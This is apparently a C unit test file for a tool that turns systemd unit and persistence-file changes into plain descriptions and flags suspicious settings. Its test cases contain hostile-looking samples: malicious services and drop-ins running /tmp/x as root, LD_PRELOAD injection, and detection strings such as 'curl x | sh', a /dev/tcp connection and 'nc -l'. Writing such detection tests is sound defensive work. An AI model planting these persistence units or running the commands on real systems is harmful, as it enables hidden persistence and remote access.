#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include "unitward/unit_meaning.h"
#include "unitward/util.h"

#define UNITS "/etc/systemd/system/"

static void assert_meaning(const struct unit_change *change, const char *expected)
{
        _cleanup_free_ char *meaning = unit_meaning(change);

        if (!expected && meaning)
                fail_msg("%s: \"%s\", expected nothing", change->path, meaning);
        if (expected && (!meaning || !streq(meaning, expected)))
                fail_msg("%s: \"%s\", expected \"%s\"", change->path, meaning ? meaning : "nothing", expected);
}

/* Completed with what follows from the path. */
static struct unit_change change_at(enum operation operation, enum place place, const char *path,
                                    char unit[static UNIT_NAME_MAX])
{
        char directory[4096], parent[4096];
        const char *name = path_split(path, directory, sizeof directory);
        const char *last = path_split(directory, parent, sizeof parent);

        unit_name_of(place, last, name, unit);
        return (struct unit_change){ .operation = operation, .place = place, .path = path, .unit = unit };
}

static void set_after(struct unit_change *change, const char *after)
{
        change->after = after;
        change->after_size = after ? strlen(after) : 0;
}

static void set_before(struct unit_change *change, const char *before)
{
        change->before = before;
        change->before_size = before ? strlen(before) : 0;
}

struct plain_case {
        enum operation operation;
        enum place place;
        const char *path, *target, *meaning;
};

static void check_plain(const struct plain_case *cases, size_t n, bool attempted)
{
        for (size_t i = 0; i < n; i++) {
                char unit[UNIT_NAME_MAX];
                struct unit_change change = change_at(cases[i].operation, cases[i].place, cases[i].path, unit);

                change.target = cases[i].target;
                change.attempted = attempted;
                assert_meaning(&change, cases[i].meaning);
        }
}

/* ---- What the place, the name and the target say --------------------------------------------------------- */

static void test_links(void **state)
{
        static const struct plain_case cases[] = {
                { OPERATION_MASK, PLACE_UNITS, UNITS "auditd.service", "/dev/null", "masks auditd.service" },
                { OPERATION_LINK, PLACE_UNITS, UNITS "auditd.service", "/dev/null", "masks auditd.service" },
                { OPERATION_MASK, PLACE_UNITS, UNITS "auditd.service", NULL, "masks auditd.service" },
                { OPERATION_REMOVE, PLACE_UNITS, UNITS "auditd.service", "/dev/null", "unmasks auditd.service" },
                { OPERATION_REMOVE, PLACE_UNITS, UNITS "ssh.service", NULL, "takes ssh.service away" },
                { OPERATION_ENABLE, PLACE_UNITS, UNITS "evil.service", "ssh.service",
                  "makes evil.service another name of ssh.service" },
                { OPERATION_ENABLE, PLACE_UNITS, UNITS "evil.service", "/usr/lib/systemd/system/ssh.service",
                  "makes evil.service another name of ssh.service" },
                { OPERATION_LINK, PLACE_UNITS, UNITS "evil.timer", "/tmp/evil.timer",
                  "loads evil.timer from /tmp/evil.timer" },
                { OPERATION_LINK, PLACE_UNITS, UNITS "evil.timer", "/tmp/x.service",
                  "loads evil.timer from /tmp/x.service" },
                { OPERATION_ENABLE, PLACE_UNITS, UNITS "evil.service", "../../..//usr/lib/./systemd/system/ssh.service",
                  "makes evil.service another name of ssh.service" },
                { OPERATION_ENABLE, PLACE_UNITS, "/srv/root" UNITS "evil.service",
                  "/srv/root/usr/lib/systemd/system/ssh.service", "makes evil.service another name of ssh.service" },
                { OPERATION_LINK, PLACE_UNITS, UNITS "evil.service", "/tmp/etc/systemd/system/ssh.service",
                  "loads evil.service from /tmp/etc/systemd/system/ssh.service" },
                { OPERATION_LINK, PLACE_UNITS, UNITS "evil.service", "../../../../../../tmp/ssh.service",
                  "loads evil.service from ../../../../../../tmp/ssh.service" },
                { OPERATION_LINK, PLACE_UNITS, UNITS "evil.service", "", "loads evil.service from " },
                { OPERATION_ENABLE, PLACE_UNITS, UNITS "getty@tty9.service", "/lib/systemd/system/getty@.service",
                  "makes getty@tty9.service an instance of the template getty@.service" },
                { OPERATION_REMOVE, PLACE_UNITS, UNITS "evil.service", "ssh.service",
                  "takes evil.service away, a link to ssh.service" },
                { OPERATION_LINK, PLACE_UNITS, UNITS "x.service.d", "/tmp/d",
                  "takes drop-ins of x.service from /tmp/d" },
                { OPERATION_LINK, PLACE_UNITS, UNITS "evil.timer", "/tmp/\x1b[31m\n",
                  "loads evil.timer from /tmp/\\x1b[31m\\x0a" },
        };

        (void)state;
        check_plain(cases, ARRAY_SIZE(cases), false);
}

static void test_dependencies(void **state)
{
#define USER_UNITS "/home/alice/.config/systemd/user/"
        static const struct plain_case cases[] = {
                { OPERATION_ENABLE, PLACE_DEPENDENCIES, UNITS "multi-user.target.wants/evil.service", "/x/evil.service",
                  "makes multi-user.target start evil.service, at every boot" },
                { OPERATION_ENABLE, PLACE_DEPENDENCIES, UNITS "a.service.requires/evil.service", "../evil.service",
                  "makes a.service start and require evil.service" },
                { OPERATION_ENABLE, PLACE_DEPENDENCIES, UNITS "timers.target.upholds/evil.timer", "../evil.timer",
                  "makes timers.target start evil.timer and keep it running, at every boot" },
                { OPERATION_ENABLE, PLACE_DEPENDENCIES, USER_UNITS "default.target.wants/evil.service",
                  "../evil.service", "makes default.target start evil.service, at every login" },
                { OPERATION_REMOVE, PLACE_DEPENDENCIES, UNITS "multi-user.target.wants/ssh.service", "../ssh.service",
                  "no longer makes multi-user.target start ssh.service, at every boot" },
                { OPERATION_MASK, PLACE_DEPENDENCIES, UNITS "multi-user.target.wants/ssh.service", "/dev/null",
                  "keeps the vendor from making multi-user.target start ssh.service, at every boot" },
                { OPERATION_ENABLE, PLACE_GENERATED, "/run/systemd/generator/multi-user.target.wants/x.mount",
                  "../x.mount", "makes multi-user.target start x.mount, at every boot" },
                { OPERATION_CREATE, PLACE_UNITS, UNITS "a.target.wants", NULL,
                  "makes a directory for dependencies of a.target" },
                { OPERATION_ENABLE, PLACE_DEPENDENCIES, UNITS "a.target.wants/nothing", "/x", NULL },
        };

        (void)state;
        check_plain(cases, ARRAY_SIZE(cases), false);
}

static void test_unknown_contents(void **state)
{
        static const struct plain_case tried[] = {
                { OPERATION_CREATE, PLACE_UNITS, UNITS "evil.timer", NULL, "would add the timer evil.timer" },
                { OPERATION_MODIFY, PLACE_UNITS, UNITS "ssh.service", NULL, "would change the service ssh.service" },
                { OPERATION_MASK, PLACE_UNITS, UNITS "ssh.service", NULL, "would mask ssh.service" },
                { OPERATION_CREATE, PLACE_DROPINS, UNITS "ssh.service.d/evil.conf", NULL,
                  "would add the drop-in evil.conf of ssh.service" },
                { OPERATION_MODIFY, PLACE_DROPINS, UNITS "ssh.service.d/evil.conf", NULL,
                  "would change the drop-in evil.conf of ssh.service" },
                { OPERATION_CREATE, PLACE_PROGRAMS, "/etc/systemd/system-generators/evil", NULL,
                  "would add the generator evil, which systemd runs as root at every boot and reload" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/var/lib/systemd/linger/alice", NULL,
                  "would let the units of alice run without a login" },
                { OPERATION_LOAD, PLACE_UNITS, UNITS "evil.timer", NULL, NULL },
                { OPERATION_READ, PLACE_UNITS, UNITS "evil.timer", NULL, NULL },
        };
        static const struct plain_case done[] = {
                { OPERATION_CREATE, PLACE_UNITS, UNITS "evil.timer", NULL, "adds the timer evil.timer" },
                { OPERATION_RENAME, PLACE_UNITS, UNITS "evil.service", NULL, "adds the service evil.service" },
                { OPERATION_MODIFY, PLACE_UNITS, UNITS "ssh.service", NULL, "changes the service ssh.service" },
                { OPERATION_CREATE, PLACE_DROPINS, UNITS "ssh.service.d/README", NULL, NULL },
                { OPERATION_CREATE, PLACE_UNITS, UNITS "README", NULL, NULL },
                { OPERATION_CREATE, PLACE_PARENT, "/etc/systemd", NULL, NULL },
        };
        struct unit_change nowhere = { .operation = OPERATION_CREATE, .path = "evil.timer", .unit = "evil.timer" };

        (void)state;
        check_plain(tried, ARRAY_SIZE(tried), true);
        check_plain(done, ARRAY_SIZE(done), false);
        assert_meaning(&nowhere, NULL);
}

static void test_no_units(void **state)
{
        static const struct plain_case cases[] = {
                { OPERATION_RENAME, PLACE_PROGRAMS, "/etc/systemd/system-generators/evil", NULL,
                  "adds the generator evil, which systemd runs as root at every boot and reload" },
                { OPERATION_LINK, PLACE_PROGRAMS, "/etc/systemd/user-generators/evil", "/tmp/x",
                  "adds the generator evil, a link to /tmp/x, which systemd runs as the user at every login and "
                  "reload" },
                { OPERATION_MASK, PLACE_PROGRAMS, "/etc/systemd/system-generators/unitward-generator", "/dev/null",
                  "masks the generator unitward-generator, which systemd runs as root at every boot and reload" },
                { OPERATION_REMOVE, PLACE_PROGRAMS, "/usr/lib/systemd/system-sleep/x", NULL,
                  "takes away the program x, which systemd runs as root before and after every sleep" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/var/lib/systemd/linger/alice", NULL,
                  "lets the units of alice run without a login" },
                { OPERATION_REMOVE, PLACE_CONFIGURATION, "/var/lib/systemd/linger/alice", NULL,
                  "no longer lets the units of alice run without a login" },
                { OPERATION_MODIFY, PLACE_CONFIGURATION, "/etc/systemd/system.conf", NULL,
                  "changes configuration of systemd itself" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/etc/init.d/evil", NULL,
                  "adds the init script evil, which systemd makes a service of" },
                { OPERATION_ENABLE, PLACE_CONFIGURATION, "/etc/rc3.d/S99evil", "../init.d/evil",
                  "makes systemd start the init script evil in runlevel 3" },
                { OPERATION_REMOVE, PLACE_CONFIGURATION, "/etc/rc3.d/K01ssh", "../init.d/ssh",
                  "no longer makes systemd stop the init script ssh in runlevel 3" },
                { OPERATION_MODIFY, PLACE_CONFIGURATION, "/etc/rc.local", NULL,
                  "changes the script that runs as root at every boot" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/etc/cron.daily/evil", NULL,
                  "adds evil, which cron runs commands of" },
                { OPERATION_RENAME, PLACE_CONFIGURATION, "/var/spool/cron/crontabs/root", NULL,
                  "adds root, which is run when its time has come" },
                { OPERATION_MODIFY, PLACE_CONFIGURATION, "/etc/fstab", NULL,
                  "changes the table that systemd makes mounts of" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/usr/share/dbus-1/system-services/org.x.service", NULL,
                  "adds org.x.service, which the system bus starts a program by when somebody asks for it" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/root/.local/share/dbus-1/services/org.x.service", NULL,
                  "adds org.x.service, which a user's bus starts a program by when somebody asks for it" },
                { OPERATION_REMOVE, PLACE_CONFIGURATION, "/usr/lib/udev/rules.d/99-x.rules", NULL,
                  "takes away 99-x.rules, which says what is run and started when a device appears" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/home/a/.config/autostart/x.desktop", NULL,
                  "adds x.desktop, which is started when somebody logs in to a desktop" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/etc/containers/systemd/x.container", NULL,
                  "adds x.container, of which podman makes units at every boot and reload" },
                { OPERATION_CREATE, PLACE_CONFIGURATION, "/srv/whatever", NULL, NULL },
        };

        (void)state;
        check_plain(cases, ARRAY_SIZE(cases), false);
}

/* ---- What new contents say -------------------------------------------------------------------------------- */

struct contents_case {
        const char *path, *after, *meaning;
};

static void check_contents(const struct contents_case *cases, size_t n, enum place place)
{
        for (size_t i = 0; i < n; i++) {
                char unit[UNIT_NAME_MAX];
                struct unit_change change = change_at(OPERATION_CREATE, place, cases[i].path, unit);

                set_after(&change, cases[i].after);
                assert_meaning(&change, cases[i].meaning);
        }
}

static void test_services(void **state)
{
#define E UNITS "evil.service"
        static const struct contents_case cases[] = {
                { E, "", "masks evil.service" },
                { E, "[Service]\nExecStart=/tmp/x\n", "runs /tmp/x as root when evil.service starts" },
                { E, "[Service]\nExecStart=/tmp/x -a 'b c'\nUser=daemon\n",
                  "runs /tmp/x -a 'b c' as daemon when evil.service starts" },
                { E, "[Service]\nExecStart=+/tmp/x\nUser=daemon\n", "runs /tmp/x as root when evil.service starts" },
                { E, "[Service]\nExecStart=-!/tmp/x\nUser=daemon\n", "runs /tmp/x as root when evil.service starts" },
                { E, "[Service]\nExecStart=!!/tmp/x\nUser=daemon\n", "runs /tmp/x as daemon when evil.service starts" },
                { E, "[Service]\nExecStart=@:-/tmp/x y\n", "runs /tmp/x y as root when evil.service starts" },
                { E, "[Service]\nExecStart=/x\nDynamicUser=yes\n",
                  "runs /x as a user of its own when evil.service starts" },
                { E, "[Service]\nExecStart=/a\nExecStart=\nExecStart=/b\n",
                  "runs /b as root when evil.service starts" },
                { E, "[Service]\nExecStartPre=/a\nExecStart=/b ; /c\n",
                  "runs /b and 2 more commands as root when evil.service starts" },
                { E, "[Service]\nExecStop=/a\n", "runs /a as root when evil.service starts" },
                { E, "[Service]\nExecStart=/x\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
                  "runs /x as root when evil.service starts and again whenever it ends, at every boot once it is "
                  "enabled" },
                { E, "[Service]\nType=simple\n", "adds evil.service, which runs nothing itself" },
                { E, "[Service]\nExecStart=/x\n[Bad\n",
                  "runs /x as root when evil.service starts, refused by systemd because of line 3" },
                { UNITS "evil@.service", "[Service]\nExecStart=/x %i\n",
                  "runs /x %i as root when an instance of evil@.service starts" },
                { "/home/alice/.config/systemd/user/evil.service", "[Service]\nExecStart=/x\nUser=root\n",
                  "runs /x as the user when evil.service starts" },
        };

        (void)state;
        check_contents(cases, ARRAY_SIZE(cases), PLACE_UNITS);
}

static void test_schedules(void **state)
{
        static const struct {
                const char *settings, *when;
        } cases[] = {
                { "OnCalendar=minutely", "every minute" },
                { "OnCalendar=*:*", "every minute" },
                { "OnCalendar=*-*-* *:*:00", "every minute" },
                { "OnCalendar=*:0/5", "every 5 minutes" },
                { "OnCalendar=*-*-* *:00/15:00", "every 15 minutes" },
                { "OnCalendar=*:*:0/10", "every 10 seconds" },
                { "OnCalendar=*:0/7", "at the times *:0/7" },
                { "OnCalendar=*:5/10", "at the times *:5/10" },
                { "OnCalendar=Daily", "every day" },
                { "OnCalendar=03:30", "every day at 03:30" },
                { "OnCalendar=*-*-* 03:30:00", "every day at 03:30" },
                { "OnCalendar=03:30:15", "every day at 03:30:15" },
                { "OnCalendar=Mon..Fri 10:00", "at the times Mon..Fri 10:00" },
                { "OnBootSec=5min\nOnUnitActiveSec=60", "5 minutes after boot and every minute" },
                { "OnUnitActiveSec=1h 30min", "every 90 minutes" },
                { "OnUnitActiveSec=7d", "every week" },
                { "OnUnitActiveSec=2d", "every 2 days" },
                { "OnUnitActiveSec=1.5h", "every 90 minutes" },
                { "OnUnitActiveSec=0", "every 0" },
                { "OnActiveSec=90", "90 seconds after the timer starts" },
                { "OnActiveSec=1", "1 second after the timer starts" },
                { "OnUnitInactiveSec=1min", "1 minute after each run" },
                { "OnStartupSec=1min", "1 minute after its manager starts" },
                { "OnClockChange=yes\nOnTimezoneChange=no", "whenever the clock is set" },
                { "OnCalendar=daily\nOnBootSec=\nOnCalendar=weekly", "every week" },
                { "OnCalendar=a\nOnCalendar=b\nOnCalendar=c\nOnCalendar=d\nOnCalendar=e\nOnCalendar=f",
                  "at the times a and at the times b and at the times c and at the times d and on 2 more occasions" },
                { "Persistent=yes", "when evil.timer says so, which it nowhere does" },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                _cleanup_free_ char *text = format("[Timer]\n%s\n", cases[i].settings),
                                    *meaning = format("starts evil.service %s", cases[i].when),
                                    *known = format("starts /tmp/x %s as daemon", cases[i].when);
                struct unit_change change = { .operation = OPERATION_CREATE,
                                              .place = PLACE_UNITS,
                                              .path = UNITS "evil.timer",
                                              .unit = "evil.timer" };

                set_after(&change, text);
                assert_meaning(&change, meaning);
                change.service = "[Service]\nExecStart=/tmp/x\nUser=daemon\n";
                change.service_size = strlen(change.service);
                assert_meaning(&change, known);
        }
}

static void test_other_types(void **state)
{
        static const struct contents_case cases[] = {
                { UNITS "evil.timer", "[Timer]\nOnCalendar=minutely\nUnit=other.service\n",
                  "starts other.service every minute" },
                { UNITS "evil.socket", "[Socket]\nListenStream=80\nListenStream=443\n",
                  "starts evil.service when somebody connects to 80 and when somebody connects to 443" },
                { UNITS "evil.socket", "[Socket]\nListenStream=80\nAccept=yes\n",
                  "starts evil@.service when somebody connects to 80" },
                { UNITS "evil.socket", "[Socket]\nListenDatagram=/run/x\nService=y.service\n",
                  "starts y.service when somebody sends to /run/x" },
                { UNITS "evil.path", "[Path]\nPathExists=/tmp/go\n", "starts evil.service whenever /tmp/go exists" },
                { UNITS "evil.path", "[Path]\nDirectoryNotEmpty=/srv\nUnit=evil.target\n",
                  "starts evil.target whenever /srv is not empty" },
                { UNITS "srv.mount", "[Mount]\nWhat=/dev/sdb1\nWhere=/srv\n", "mounts /dev/sdb1 on /srv" },
                { UNITS "srv.automount", "[Automount]\nWhere=/srv\n",
                  "mounts something on /srv when it is first used" },
                { UNITS "x.swap", "[Swap]\nWhat=/swapfile\n", "swaps to /swapfile" },
                { UNITS "evil.target", "[Unit]\nWants=a.service b.service\n",
                  "adds the target evil.target, which starts a.service b.service" },
                { UNITS "evil.slice", "[Slice]\nCPUWeight=1\n", "adds the slice evil.slice" },
        };

        (void)state;
        check_contents(cases, ARRAY_SIZE(cases), PLACE_UNITS);
}

static void test_drop_ins(void **state)
{
#define D UNITS "ssh.service.d/evil.conf"
        static const struct contents_case cases[] = {
                { D, "[Service]\nExecStartPre=/tmp/x\n", "adds ExecStartPre=/tmp/x to ssh.service" },
                { D, "[Service]\nExecStart=\nExecStart=/tmp/x\n", "overrides ExecStart of ssh.service with /tmp/x" },
                { D, "[Service]\nExecStart=\n", "empties ExecStart of ssh.service" },
                { D, "[Service]\nUser=root\nExecStartPre=+/tmp/x\nExecStartPre=/y\nNoNewPrivileges=no\n",
                  "adds ExecStartPre=+/tmp/x to ssh.service and 1 more, sets User=root, sets NoNewPrivileges=no" },
                { D, "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\n",
                  "adds Environment=LD_PRELOAD=/tmp/x.so to ssh.service" },
                { D, "[Unit]\nDescription=a\nA=1\nB=2\nC=3\nD=4\nE=5\n[Service]\nExecStop=/x\n",
                  "adds ExecStop=/x to ssh.service, sets A=1, sets B=2, sets C=3, and 3 other settings" },
                { D, "[Service]\nUser=a\nUser=b\n", "sets User=b for ssh.service" },
                { D, "[X-Own]\nUser=a\n", "adds the drop-in evil.conf of ssh.service, which sets nothing" },
                { D, "", "masks the drop-in evil.conf of ssh.service" },
                { UNITS "service.d/x.conf", "[Service]\nExecStartPre=/x\n", "adds ExecStartPre=/x to every service" },
                { UNITS "foo-.service.d/x.conf", "[Service]\nExecStartPre=/x\n",
                  "adds ExecStartPre=/x to every service whose name begins with foo-" },
                { UNITS "getty@.service.d/x.conf", "[Service]\nExecStartPre=/x\n",
                  "adds ExecStartPre=/x to every instance of getty@.service" },
                { UNITS "getty@tty1.service.d/x.conf", "[Service]\nExecStartPre=/x\n",
                  "adds ExecStartPre=/x to getty@tty1.service" },
        };
        static const struct plain_case plain[] = {
                { OPERATION_REMOVE, PLACE_DROPINS, UNITS "x.service.d/hardening.conf", NULL,
                  "removes the drop-in hardening.conf of x.service" },
                { OPERATION_REMOVE, PLACE_DROPINS, UNITS "x.service.d/hardening.conf", "/dev/null",
                  "unmasks the drop-in hardening.conf of x.service" },
                { OPERATION_MASK, PLACE_DROPINS, UNITS "x.service.d/hardening.conf", "/dev/null",
                  "masks the drop-in hardening.conf of x.service" },
                { OPERATION_LINK, PLACE_DROPINS, UNITS "x.service.d/evil.conf", "/tmp/e",
                  "adds the drop-in evil.conf of x.service, a link to /tmp/e" },
                { OPERATION_REMOVE, PLACE_UNITS, UNITS "x.service.d", NULL, "takes away all drop-ins of x.service" },
                { OPERATION_MODIFY, PLACE_UNITS, UNITS "x.service.d", NULL,
                  "changes the owner, mode or attributes of x.service.d" },
        };

        static const struct contents_case directories[] = {
                { UNITS "x.service.d", "[Service]\nUser=a\n\n[Service]\nExecStartPre=/x\n\n",
                  "adds ExecStartPre=/x to x.service, sets User=a" },
                { UNITS "x.service.d", NULL, "makes a directory for drop-ins of x.service" },
        };

        (void)state;
        check_contents(directories, ARRAY_SIZE(directories), PLACE_UNITS);
        check_contents(cases, ARRAY_SIZE(cases), PLACE_DROPINS);
        check_plain(plain, ARRAY_SIZE(plain), false);
}

/* ---- What was before ------------------------------------------------------------------------------------------ */

static void test_differences(void **state)
{
#define SSHD "[Service]\nExecStart=/usr/sbin/sshd -D\nUser=sshd\nEnvironment=A=1\n"
        static const struct {
                enum place place;
                const char *path, *before, *after, *meaning;
        } cases[] = {
                { PLACE_UNITS, UNITS "ssh.service", SSHD, "[Service]\nExecStart=/tmp/x\nUser=sshd\nEnvironment=A=1\n",
                  "changes ExecStart of ssh.service from /usr/sbin/sshd -D to /tmp/x" },
                { PLACE_UNITS, UNITS "ssh.service", SSHD, SSHD "ExecStartPost=/tmp/x\n",
                  "adds ExecStartPost=/tmp/x to ssh.service" },
                { PLACE_UNITS, UNITS "ssh.service", SSHD, "[Service]\nExecStart=/usr/sbin/sshd -D\nEnvironment=A=1\n",
                  "removes User=sshd from ssh.service" },
                { PLACE_UNITS, UNITS "ssh.service", SSHD, SSHD "User=root\nEnvironment=B=2\n",
                  "adds Environment=B=2 to ssh.service, changes User from sshd to root" },
                { PLACE_UNITS, UNITS "ssh.service", SSHD, "# hello\n" SSHD,
                  "changes comments and layout of ssh.service only" },
                { PLACE_UNITS, UNITS "ssh.service", SSHD, "", "masks ssh.service" },
                { PLACE_UNITS, UNITS "ssh.service", "", "[Service]\nExecStart=/x\n",
                  "runs /x as root when ssh.service starts" },
                { PLACE_DROPINS, UNITS "ssh.service.d/a.conf", "[Service]\nProtectSystem=strict\n",
                  "[Service]\nProtectSystem=no\n", "changes ProtectSystem of ssh.service from strict to no" },
                { PLACE_DROPINS, UNITS "ssh.service.d/a.conf", "[Service]\nA=1\n", "[Service]\nA=1\n#\n",
                  "changes the drop-in a.conf of ssh.service in comments and layout only" },
                { PLACE_CONFIGURATION, "/etc/systemd/system.conf", "[Manager]\n",
                  "[Manager]\nDefaultEnvironment=LD_PRELOAD=/x\n",
                  "adds DefaultEnvironment=LD_PRELOAD=/x to systemd itself" },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                char unit[UNIT_NAME_MAX];
                struct unit_change change = change_at(OPERATION_MODIFY, cases[i].place, cases[i].path, unit);

                set_before(&change, cases[i].before);
                set_after(&change, cases[i].after);
                assert_meaning(&change, cases[i].meaning);
        }
}

static void test_attributes(void **state)
{
        struct unit_change change = { .operation = OPERATION_MODIFY,
                                      .place = PLACE_UNITS,
                                      .path = UNITS "ssh.service",
                                      .unit = "ssh.service",
                                      .attributes_only = true };

        (void)state;
        assert_meaning(&change, "changes the owner, mode or attributes of ssh.service");
}

static void test_precedence(void **state)
{
        struct unit_change change = { .operation = OPERATION_CREATE,
                                      .place = PLACE_UNITS,
                                      .path = UNITS "ssh.service",
                                      .unit = "ssh.service",
                                      .outranked = "/usr/lib/systemd/system/ssh.service" };

        (void)state;
        assert_meaning(&change, "adds the service ssh.service, in place of /usr/lib/systemd/system/ssh.service");
        set_after(&change, "[Service]\nExecStart=/x\n");
        assert_meaning(&change,
                       "runs /x as root when ssh.service starts, in place of /usr/lib/systemd/system/ssh.service");
        set_after(&change, NULL);
        change.operation = OPERATION_REMOVE;
        assert_meaning(&change, "takes ssh.service away, so that systemd uses /usr/lib/systemd/system/ssh.service");
}

/* ---- Limits ---------------------------------------------------------------------------------------------------- */

static void test_length(void **state)
{
        char value[4001], unit[UNIT_NAME_MAX];
        struct unit_change change = change_at(OPERATION_MODIFY, PLACE_UNITS, UNITS "x.service", unit);
        _cleanup_free_ char *before = NULL, *after = NULL, *meaning = NULL;

        (void)state;
        memset(value, 'a', sizeof value - 1);
        value[sizeof value - 1] = '\0';
        before = format("[Service]\nExecStart=/%s\n", value);
        memset(value, '\x01', sizeof value - 1);
        after = format("[Service]\nExecStart=/%s\nUser=%s\nGroup=%s\n", value, value, value);
        set_before(&change, before);
        set_after(&change, after);
        meaning = unit_meaning(&change);
        assert_non_null(meaning);
        assert_true(strlen(meaning) <= 512 && strlen(meaning) > 500);
        assert_true(ends_with(meaning, "..."));
}

/* ---- Suspicions ------------------------------------------------------------------------------------------------- */

static void test_suspicions(void **state)
{
        static const struct {
                const char *setting;
                bool user;
                unsigned suspicions;
        } cases[] = {
                { "ExecStart=/usr/sbin/sshd -D /tmp/x", false, 0 },
                { "ExecStart=/tmp/x", false, SUSPICION_EXEC_VOLATILE },
                { "ExecStartPre=-@/dev/shm/x", false, SUSPICION_EXEC_VOLATILE },
                { "ExecStart=\"/var/tmp/a b\"", false, SUSPICION_EXEC_VOLATILE },
                { "ExecStart=/bin/true ; /tmp/x", false, SUSPICION_EXEC_VOLATILE },
                { "ExecStart=/tmpfiles/x", false, 0 },
                { "ExecStart=/home/a/x", false, SUSPICION_EXEC_HOME },
                { "ExecStart=/home/a/x", true, 0 },
                { "ExecStart=/opt/.x/run", false, SUSPICION_EXEC_HIDDEN },
                { "ExecStart=/opt/../x", false, 0 },
                { "ExecStart=/bin/sh -c id", false, SUSPICION_EXEC_SHELL },
                { "ExecStart=/bin/bash -lc 'curl x | sh'", false, SUSPICION_EXEC_SHELL | SUSPICION_EXEC_NETWORK },
                { "ExecStart=/usr/bin/python3.11 -c 'import os'", false, SUSPICION_EXEC_SHELL },
                { "ExecStart=/usr/bin/perl -e 1", false, SUSPICION_EXEC_SHELL },
                { "ExecStart=/usr/bin/env A=1 bash -c /tmp/x", false, SUSPICION_EXEC_SHELL | SUSPICION_EXEC_VOLATILE },
                { "ExecStart=/bin/sh /tmp/x", false, SUSPICION_EXEC_VOLATILE },
                { "ExecStart=/bin/sh /usr/lib/x -c", false, 0 },
                { "ExecStart=/bin/sh -c 'exec 3<>/dev/tcp/1.2.3.4/80'", false,
                  SUSPICION_EXEC_SHELL | SUSPICION_EXEC_NETWORK },
                { "ExecStart=/usr/bin/nc -l 1", false, SUSPICION_EXEC_NETWORK },
                { "ExecStart=/usr/bin/shutdown -c", false, 0 },
                { "Environment=\"A=1\" LD_PRELOAD=/x", false, SUSPICION_ENVIRONMENT },
                { "Environment=A=LD_PRELOAD=/x", false, 0 },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                _cleanup_free_ char *text = format("[Service]\n%s\n", cases[i].setting);
                unsigned found = unit_suspicions(text, strlen(text), cases[i].user);

                if (found != cases[i].suspicions)
                        fail_msg("%s: %#x, expected %#x", cases[i].setting, found, cases[i].suspicions);
        }
        for (unsigned i = 0; i < N_SUSPICIONS; i++)
                assert_true(strlen(unit_suspicion_text(1u << i)) > 10);
        assert_string_equal(unit_suspicion_text(1u << N_SUSPICIONS), "");
}

static void test_programs(void **state)
{
        static const char text[] = "[Service]\nExecStart=-/bin/a 1 ; @/bin/b x\nExecStartPre=relative\n"
                                   "ExecStop=\"/opt/a b/\\x63\" d\nExecReload=\n[Mount]\nWhat=/dev/x\n";
        static const char *const expected[] = { "/bin/a", "/bin/b", "/opt/a b/c" };
        char **programs;
        size_t n = 0;

        (void)state;
        assert_int_equal(unit_programs(text, strlen(text), &programs), 0);
        for (; programs[n]; n++) {
                assert_true(n < ARRAY_SIZE(expected));
                assert_string_equal(programs[n], expected[n]);
                free(programs[n]);
        }
        assert_int_equal(n, ARRAY_SIZE(expected));
        free(programs);
        assert_int_equal(unit_programs("", 0, &programs), 0);
        assert_null(programs[0]);
        free(programs);
}

static void test_activates(void **state)
{
        static const struct {
                const char *unit, *text, *activated;
        } cases[] = {
                { "a.timer", NULL, "a.service" },
                { "a.timer", "[Timer]\nUnit=b.target\n", "b.target" },
                { "a@x.timer", "", "a@x.service" },
                { "a.socket", "[Socket]\nAccept=yes\n", "a@.service" },
                { "a.socket", "[Socket]\nService=b.service\n", "b.service" },
                { "a.path", "[Path]\nUnit=../../x\n", "a.service" },
                { "a.service", "", NULL },
                { "a", "", NULL },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                const char *text = cases[i].text;
                char name[UNIT_NAME_MAX];

                assert_int_equal(unit_activates(cases[i].unit, text, text ? strlen(text) : 0, name),
                                 cases[i].activated != NULL);
                if (cases[i].activated)
                        assert_string_equal(name, cases[i].activated);
        }
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_links),
                cmocka_unit_test(test_dependencies),
                cmocka_unit_test(test_unknown_contents),
                cmocka_unit_test(test_no_units),
                cmocka_unit_test(test_services),
                cmocka_unit_test(test_schedules),
                cmocka_unit_test(test_other_types),
                cmocka_unit_test(test_drop_ins),
                cmocka_unit_test(test_differences),
                cmocka_unit_test(test_precedence),
                cmocka_unit_test(test_attributes),
                cmocka_unit_test(test_length),
                cmocka_unit_test(test_suspicions),
                cmocka_unit_test(test_programs),
                cmocka_unit_test(test_activates),
        };

        return cmocka_run_group_tests_name("unit meanings", tests, NULL, NULL);
}
